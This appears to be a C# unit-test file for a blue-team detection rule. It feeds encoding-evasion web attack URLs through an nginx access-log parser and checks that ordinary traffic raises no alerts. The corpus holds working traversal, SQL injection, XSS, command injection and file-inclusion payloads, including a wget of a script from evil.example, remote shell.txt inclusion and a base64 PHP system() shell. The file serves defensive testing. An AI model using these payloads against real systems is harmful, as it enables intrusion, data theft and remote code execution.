using BlueTeam.Core.Events;

namespace BlueTeam.Tests.Correlation;

/// <summary>
/// web_attack against encodings meant to slip past it (every bypass kind for every pattern family,
/// each through the access-log parser as nginx logs it), and against ordinary traffic that looks
/// a little like an attack (none may raise).
/// </summary>
public class WebAttackCorpusTests
{
    public enum Family { Traversal, SqlInjection, CrossSiteScripting, CommandInjection, FileInclusion }

    public enum Bypass
    {
        /// <summary>Tab, LF or CR inside or between keywords.</summary>
        ControlWhitespace,
        DoubleEncoding,
        PercentU,
        OverlongUtf8,
        Nul,
        FullWidth,
        HtmlEntity,
        /// <summary>A byte the server wrote to its log as <c>\xHH</c> (raw control characters, quotes, backslashes).</summary>
        LogEscape,
        /// <summary><c>..;/</c>: Tomcat drops the path parameter.</summary>
        TomcatPathParameter,
        /// <summary><c>..\</c>, raw or <c>%5c</c>.</summary>
        Backslash,
        /// <summary><c>.%2e</c>, <c>%2e%2e</c>.</summary>
        EncodedDot,
        /// <summary><c>//</c> and <c>/./</c> inside a path.</summary>
        RedundantSegments,
        /// <summary>The family's own syntax variations (SQL comments, slash-separated attributes, wrappers, ...).</summary>
        Syntax,
    }

    private static readonly Bypass[] EncodingBypasses =
        [Bypass.ControlWhitespace, Bypass.DoubleEncoding, Bypass.PercentU, Bypass.OverlongUtf8, Bypass.Nul, Bypass.FullWidth, Bypass.HtmlEntity, Bypass.LogEscape];

    private static readonly Bypass[] PathBypasses = [Bypass.TomcatPathParameter, Bypass.Backslash, Bypass.EncodedDot, Bypass.RedundantSegments];

    public static readonly TheoryData<Family, Bypass, string> Bypasses = new()
    {
        { Family.Traversal, Bypass.ControlWhitespace, "/download?file=..%09/..%09/app/config.yml" },
        { Family.Traversal, Bypass.DoubleEncoding, "/static/%252e%252e%252f%252e%252e%252fconfig.yml" },
        { Family.Traversal, Bypass.PercentU, "/files/%u002e%u002e%u002fsecret.txt" },
        { Family.Traversal, Bypass.OverlongUtf8, "/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe" },
        { Family.Traversal, Bypass.OverlongUtf8, "/files/%c0%ae%c0%ae/secret.txt" },
        { Family.Traversal, Bypass.Nul, "/view?page=..%00/..%00/app.conf" },
        { Family.Traversal, Bypass.FullWidth, "/files/%EF%BC%8E%EF%BC%8E%EF%BC%8Fsecret.txt" },
        { Family.Traversal, Bypass.HtmlEntity, "/view?doc=%26%2346;%26%2346;%26%2347;config.yml" },
        { Family.Traversal, Bypass.LogEscape, "/static/..\\x5c..\\x5capp.conf" },
        { Family.Traversal, Bypass.TomcatPathParameter, "/app/..;/..;/manager/html" },
        { Family.Traversal, Bypass.TomcatPathParameter, "/app/..;jsessionid=1/admin" },
        { Family.Traversal, Bypass.Backslash, "/static/..%5c..%5cweb.config" },
        { Family.Traversal, Bypass.EncodedDot, "/static/.%2e/.%2e/secret.txt" },
        { Family.Traversal, Bypass.RedundantSegments, "/static/.%2e/./.%2e//secret.txt" },
        { Family.Traversal, Bypass.Syntax, "/view?page=....//....//config.yml" },

        { Family.SqlInjection, Bypass.ControlWhitespace, "/products?id=-1%20UN%0AION%20SEL%09ECT%201,2,3" },
        { Family.SqlInjection, Bypass.ControlWhitespace, "/products?id=1%0AUNION%0ASELECT%0Ausername,password%0AFROM%0Ausers" },
        { Family.SqlInjection, Bypass.DoubleEncoding, "/item?id=1%2527%2520OR%25201%253D1--" },
        { Family.SqlInjection, Bypass.PercentU, "/item?id=1%u0027%u0020or%u0020%u00271%u0027=%u00271" },
        { Family.SqlInjection, Bypass.OverlongUtf8, "/login?user=admin%c0%a7--" },
        { Family.SqlInjection, Bypass.Nul, "/item?id=1%20UNI%00ON%20SEL%00ECT%20null,null" },
        { Family.SqlInjection, Bypass.FullWidth, "/item?id=1%EF%BC%87%20or%20%EF%BC%871%EF%BC%87=%EF%BC%871" },
        { Family.SqlInjection, Bypass.HtmlEntity, "/search?q=x%26%2339;%20or%20%26apos;a%26apos;=%26apos;a" },
        { Family.SqlInjection, Bypass.LogEscape, "/login?user=admin\\x22\\x09or\\x091=1--" },
        { Family.SqlInjection, Bypass.Syntax, "/item?id=1/**/UNION/**/SELECT/**/1,2" },
        { Family.SqlInjection, Bypass.Syntax, "/item?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2" },
        { Family.SqlInjection, Bypass.Syntax, "/item?id=1%20and%20sleep(5)" },
        { Family.SqlInjection, Bypass.Syntax, "/item?id=1;%20DROP%20TABLE%20users" },

        { Family.CrossSiteScripting, Bypass.ControlWhitespace, "/go?url=java%09script:alert(1)" },
        { Family.CrossSiteScripting, Bypass.ControlWhitespace, "/go?url=jav%0Dascript%0A:alert(document.cookie)" },
        { Family.CrossSiteScripting, Bypass.DoubleEncoding, "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E" },
        { Family.CrossSiteScripting, Bypass.PercentU, "/search?q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E" },
        { Family.CrossSiteScripting, Bypass.OverlongUtf8, "/search?q=%C0%BCscript%C0%BEalert(1)" },
        { Family.CrossSiteScripting, Bypass.Nul, "/search?q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E" },
        { Family.CrossSiteScripting, Bypass.FullWidth, "/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)" },
        { Family.CrossSiteScripting, Bypass.HtmlEntity, "/search?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;" },
        { Family.CrossSiteScripting, Bypass.HtmlEntity, "/go?url=javascript%26colon;alert(1)" },
        { Family.CrossSiteScripting, Bypass.LogEscape, "/profile?name=x\\x22%20onmouseover=\\x22alert(1)" },
        { Family.CrossSiteScripting, Bypass.Syntax, "/search?q=%3Csvg/onload=alert(1)%3E" },

        { Family.CommandInjection, Bypass.ControlWhitespace, "/ping?host=127.0.0.1%0Awhoami" },
        { Family.CommandInjection, Bypass.ControlWhitespace, "/ping?host=127.0.0.1;ca%09t%20/etc/hosts" },
        { Family.CommandInjection, Bypass.DoubleEncoding, "/ping?host=127.0.0.1%253Bid" },
        { Family.CommandInjection, Bypass.PercentU, "/ping?host=x%u007Cuname%20-a" },
        { Family.CommandInjection, Bypass.OverlongUtf8, "/ping?host=x%C0%BBwhoami" },
        { Family.CommandInjection, Bypass.Nul, "/ping?host=x;wh%00oami" },
        { Family.CommandInjection, Bypass.FullWidth, "/ping?host=x%EF%BD%9Cwhoami" },
        { Family.CommandInjection, Bypass.HtmlEntity, "/ping?host=x%26semi;cat%20/etc/hosts" },
        { Family.CommandInjection, Bypass.LogEscape, "/ping?host=x\\x0Awget%20http://evil.example/x.sh" },
        { Family.CommandInjection, Bypass.Syntax, "/ping?host=x;cat${IFS}/etc/hosts" },
        { Family.CommandInjection, Bypass.Syntax, "/ping?host=$(id)" },
        { Family.CommandInjection, Bypass.Syntax, "/ping?host=x%60id%60" },

        { Family.FileInclusion, Bypass.ControlWhitespace, "/view?page=ph%0Ap://filter/convert.base64-encode/resource=index" },
        { Family.FileInclusion, Bypass.DoubleEncoding, "/view?page=%252Fetc%252Fpasswd" },
        { Family.FileInclusion, Bypass.PercentU, "/view?page=%u002Fproc%u002Fself%u002Fenviron" },
        { Family.FileInclusion, Bypass.OverlongUtf8, "/view?page=%C0%AFetc%C0%AFpasswd" },
        { Family.FileInclusion, Bypass.Nul, "/view?page=/etc/pas%00swd" },
        { Family.FileInclusion, Bypass.Nul, "/view?page=http://evil.example/shell.txt%00" },
        { Family.FileInclusion, Bypass.FullWidth, "/view?page=%EF%BC%8Fetc%EF%BC%8Fpasswd" },
        { Family.FileInclusion, Bypass.FullWidth, "/view?page=%EF%BD%90hp://input" },
        { Family.FileInclusion, Bypass.HtmlEntity, "/view?page=php%26%2358;//filter/resource=config" },
        { Family.FileInclusion, Bypass.LogEscape, "/view?page=C:\\x5cwindows\\x5cwin.ini" },
        { Family.FileInclusion, Bypass.TomcatPathParameter, "/static/..;/..;/etc/passwd" },
        { Family.FileInclusion, Bypass.Backslash, "/view?page=C:%5CWindows%5Cwin.ini" },
        { Family.FileInclusion, Bypass.EncodedDot, "/view?page=%2Fproc%2Fself%2Fenviron" },
        { Family.FileInclusion, Bypass.RedundantSegments, "/view?page=/etc//./passwd" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=php://filter/convert.base64-encode/resource=index.php" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=php://input" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=data:text/html,%3Ch1%3Ex" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=expect://id" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=file:///etc/hostname" },
        { Family.FileInclusion, Bypass.Syntax, "/index.php?page=http://evil.example/shell.txt?" },
        { Family.FileInclusion, Bypass.Syntax, "/index.php?include=https://evil.example/x" },
        { Family.FileInclusion, Bypass.Syntax, "/view?page=/proc/self/environ" },
    };

    [Theory]
    [MemberData(nameof(Bypasses))]
    public void WebAttack_Bypass_IsDetected(Family family, Bypass bypass, string url)
    {
        var incidents = Rules.Run(Rules.Build("web_attack"), SecurityLogs.AccessLog([SecurityLogs.Access(SecurityLogs.Day, "203.0.113.80", url, 404)]));
        var incident = Assert.Single(incidents);
        Assert.Equal("Web attack attempt from 203.0.113.80", incident.Title);
        Assert.True(incident.Source?.Ip == "203.0.113.80", $"{family} {bypass}");
    }

    [Fact]
    public void BypassCorpus_HasEveryEncodingForEveryFamily_AndEveryPathFormForThePathFamilies()
    {
        var present = Bypasses.Select((object[] row) => ((Family)row[0], (Bypass)row[1])).ToHashSet();
        var missing = Enum.GetValues<Family>()
            .SelectMany(f => EncodingBypasses.Append(Bypass.Syntax).Concat(f is Family.Traversal or Family.FileInclusion ? PathBypasses : []).Select(b => (f, b)))
            .Where(pair => !present.Contains(pair))
            .ToList();
        Assert.Empty(missing);
    }

    /// <summary>Traffic a site sees every day, chosen to be close to the patterns: SQL words in searches, quotes in names, encoded slashes, JSON, long trackers, dots in file names.</summary>
    public static readonly TheoryData<string> OrdinaryTraffic = new()
    {
        "/", "/index.html", "/login", "/favicon.ico", "/robots.txt", "/sitemap.xml",
        "/static/css/site.3f9c1.css", "/static/js/app.min.js?v=20260310", "/images/logo@2x.png", "/fonts/inter-var.woff2",
        "/img/photo%20with%20spaces.jpg", "/download/setup-1.2.3.exe",
        "/search?q=select+a+plan", "/search?q=how+to+select+a+plan+from+the+list", "/search?q=select+your+region+from+the+map",
        "/search?q=union+station+chicago", "/search?q=union+pacific+railroad+selection", "/search?q=credit+union+or+bank",
        "/search?q=drop-down+menu+css", "/search?q=drop+shipping", "/search?q=delete+account", "/search?q=update+my+address",
        "/search?q=sleep+(8+hours)", "/search?q=version+2.0+or+later", "/search?q=1+or+2", "/search?q=the+%22or%22+operator",
        "/search?q=%22exact+phrase%22+or+other", "/search?q=it%27s+or+isn%27t", "/search?q=students%27+and+teachers",
        "/search?q=rock+%27n%27+roll", "/search?q=what%27s+new%3F", "/search?q=100%25+cotton", "/search?q=c%2B%2B+templates",
        "/search?q=%3C3+you", "/search?q=a+%3C+b+and+c+%3E+d", "/search?q=email%40example.com", "/search?q=javascript%3A+the+good+parts",
        "/search?q=how+to+use+onload+in+html", "/search?q=php+tutorial", "/search?q=file+transfer", "/search?q=cat+food",
        "/search?q=dog%7Ccat", "/tags?list=dog|cat|bird", "/search?q=cats;+dogs", "/search?q=me+%26+you",
        "/users?name=O%27Brien", "/users?name=O'Brien&city=Dublin", "/users?name=D%27Angelo+%26+Sons",
        "/shop?sort=price&id=5&cat=shoes", "/shop?cat=5&ls=1&env=prod", "/api/v1/items?ids=1;2;3", "/products?category=tools&sort=-price",
        "/calc?expr=1%2B1%3D2", "/api/stats?range=7d&tz=Europe%2FBerlin",
        "/auth/callback?code=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-def_ghi&state=YWJj%2BZGVm%2F%3D%3D",
        "/track?d=eyJldmVudCI6InBhZ2V2aWV3In0%3D", "/api/files?path=docs%2F2026%2Freport.pdf", "/api/files?path=%2Fhome%2Falice%2Fnotes.txt",
        "/api/upload?name=C:%5CUsers%5Calice%5Creport.docx",
        "/api/items?filter=%7B%22status%22%3A%22open%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D",
        "/api/items?filter={\\x22name\\x22:\\x22x\\x22,\\x22online\\x22:true}",
        "/redirect?url=https%3A%2F%2Fshop.example.com%2Fcheckout%3Fitem%3D42%26qty%3D1", "/login?next=%2Fdashboard%3Ftab%3Dsettings",
        "/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcallback.php&scope=openid+profile",
        "/share?u=https://blog.example/post/42&title=Union+Station", "/a?b=1&amp;c=2", "/api/search?q=%26amp%3B",
        "/wiki/M%C3%BCnchen", "/wiki/\\xE6\\x9D\\xB1\\xE4\\xBA\\xAC", "/wiki/東京", "/wiki/%EF%BC%A1%EF%BC%A2%EF%BC%A3",
        "/files/a..b.txt", "/files/report..final.pdf", "/releases/v1.2..v1.3.diff", "/.well-known/security.txt",
        "/docs/donerror.html", "/blog/the-onerror-handler-explained", "/docs/etc/index.html", "/page;jsessionid=ABC123?x=1",
        "/api/equipment/42/readings?from=2026-03-10T00:00:00Z&to=2026-03-11T00:00:00Z", "/api/equipment?page=2&sort=name",
        "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_2026&utm_content=hero-cta&utm_term=select+plan" +
            "&gclid=Cj0KCQiA4NWrBhD-ARIsAFCKwWt5Xq3Yl8mJcV2pQ7Rz0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3aB4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6aB7cD8eF9gH0iJ1kL2mN3oP4qR5sT6uV7wX8yZ9aB0cD1eF2gH3iJ4kL5mN6oP7qR8sT9uV0wX1yZ2aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5" +
            "&fbclid=IwAR2x9Yc8nQ7mK6jH5gF4dS3aP2oI1uY0tR9eW8qZ7xC6vB5nM4lK3jH2gF1dS0aP9oI8uY7tR6eW5qZ4xC3vB2nM1&mc_eid=0a1b2c3d4e&_hsenc=p2ANqtz--abc_DEF-123",
    };

    [Theory]
    [MemberData(nameof(OrdinaryTraffic))]
    public void WebRules_OrdinaryRequest_RaiseNothing(string url)
    {
        var events = SecurityLogs.AccessLog([SecurityLogs.Access(SecurityLogs.Day, "198.51.100.20", url, 200, referrer: "https://eqmon.example/")]);
        Assert.Equal(url, Assert.Single(events).Url?.Original);
        Assert.Empty(Rules.Run(Rules.Build("web_attack"), events));
        Assert.Empty(Rules.Run(Rules.Build("web_scanner"), events));
    }

    [Fact]
    public void WebAttack_OrdinaryTrafficAsOneStream_RaisesNothing()
    {
        var urls = OrdinaryTraffic.Select((object[] row) => (string)row[0]).ToList();
        var events = SecurityLogs.AccessLog(urls.Select((u, i) => SecurityLogs.Access(SecurityLogs.Day.AddSeconds(i), "198.51.100.20", u, 200)));
        Assert.Equal(urls.Count, events.Count);
        Assert.Empty(Rules.Run(Rules.Build("web_attack"), events));
    }

    // The measurement in issue 14: most of these passed the raw-URL patterns; the field the rule reads now is the normalized one.
    [Fact]
    public void WebAttack_ReadsTheNormalizedUrl()
    {
        var events = SecurityLogs.AccessLog([SecurityLogs.Access(SecurityLogs.Day, "203.0.113.80", "/app/..;/..;/manager/html", 404)]);
        var e = Assert.Single(events);
        Assert.Equal("/app/../../manager/html", BlueTeam.Correlation.Fields.EventField.Resolve("url.normalized").ReadText(e));
        Assert.Equal("/app/..;/..;/manager/html", e.Url?.Original);
    }
}
